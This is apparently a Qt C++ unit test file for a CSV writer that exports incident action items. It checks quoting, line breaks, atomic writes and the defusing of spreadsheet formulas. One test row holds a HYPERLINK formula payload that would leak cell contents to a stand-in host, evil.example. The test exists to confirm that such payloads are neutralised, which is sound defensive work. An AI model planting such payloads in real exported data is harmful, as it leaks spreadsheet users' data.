#include "Rfc4180Reader.h"

#include "report/ActionItemCsvWriter.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

namespace {

ActionItem item(const QString& incidentId, const QString& title,
                ActionItem::Status status = ActionItem::Status::Open)
{
    ActionItem action;
    action.id = QStringLiteral("id-") + title.left(8);
    action.incidentId = incidentId;
    action.title = title;
    action.owner = QStringLiteral("Zoë Martin");
    action.dueDate = QDate(2026, 4, 1);
    action.status = status;
    action.link = QStringLiteral("https://tracker.example/T-12");
    return action;
}

} // namespace

class TestActionItemCsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void writesHeaderAndOneRecordPerItem()
    {
        ActionItem noDate =
            item(QStringLiteral("b"), QStringLiteral("Page the PSP"), ActionItem::Status::InProgress);
        noDate.dueDate = QDate();
        const QByteArray csv =
            ActionItemCsvWriter({{QStringLiteral("a"), QStringLiteral("INC-7")}})
                .toCsv({item(QStringLiteral("a"), QStringLiteral("Rotate keys, then test")), noDate});
        Rfc4180Reader reader;
        const QList<QStringList> records = reader.read(csv);
        QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
        QCOMPARE(records.size(), 3);
        QCOMPARE(records.at(0), ActionItemCsvWriter::header());
        QCOMPARE(records.at(1),
                 (QStringList{QStringLiteral("INC-7"), QStringLiteral("Rotate keys, then test"),
                              QStringLiteral("Zoë Martin"), QStringLiteral("2026-04-01"),
                              QStringLiteral("open"), QStringLiteral("https://tracker.example/T-12")}));
        // An incident without a known reference keeps its id; a missing date is an empty cell.
        QCOMPARE(records.at(2).at(0), QStringLiteral("b"));
        QCOMPARE(records.at(2).at(3), QString());
        QCOMPARE(records.at(2).at(4), QStringLiteral("in_progress"));
    }

    void quotesAndLineBreaks()
    {
        const QString title = QStringLiteral("Say \"no\" to\r\nmanual deploys, twice");
        Rfc4180Reader reader;
        const QList<QStringList> records =
            reader.read(ActionItemCsvWriter().toCsv({item(QStringLiteral("a"), title)}));
        QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
        QCOMPARE(records.at(1).at(1), title);
    }

    void defusesFormulas_data()
    {
        QTest::addColumn<QString>("title");
        QTest::newRow("equals") << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        QTest::newRow("plus") << QStringLiteral("+1+1");
        QTest::newRow("minus") << QStringLiteral("-2+3");
        QTest::newRow("at") << QStringLiteral("@SUM(A1:A2)");
        QTest::newRow("tab") << QStringLiteral("\t=1");
    }
    void defusesFormulas()
    {
        QFETCH(QString, title);
        ActionItem action = item(QStringLiteral("a"), title);
        action.owner = title;
        action.link = title;
        Rfc4180Reader reader;
        const QList<QStringList> records = reader.read(ActionItemCsvWriter().toCsv({action}));
        QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
        for (int column : {1, 2, 5})
            QCOMPARE(records.at(1).at(column), QLatin1Char('\'') + title);
    }

    void writesFileAtomically()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("actions.csv"));
        ActionItemCsvWriter writer;
        QVERIFY2(writer.writeFile({item(QStringLiteral("a"), QStringLiteral("Add an alert"))}, path),
                 qPrintable(writer.errorString()));
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QVERIFY(file.readAll().contains("Add an alert"));
        QVERIFY(!writer.writeFile({}, dir.filePath(QStringLiteral("missing/dir/actions.csv"))));
        QVERIFY(!writer.errorString().isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestActionItemCsvWriter)
#include "tst_actionitemcsvwriter.moc"
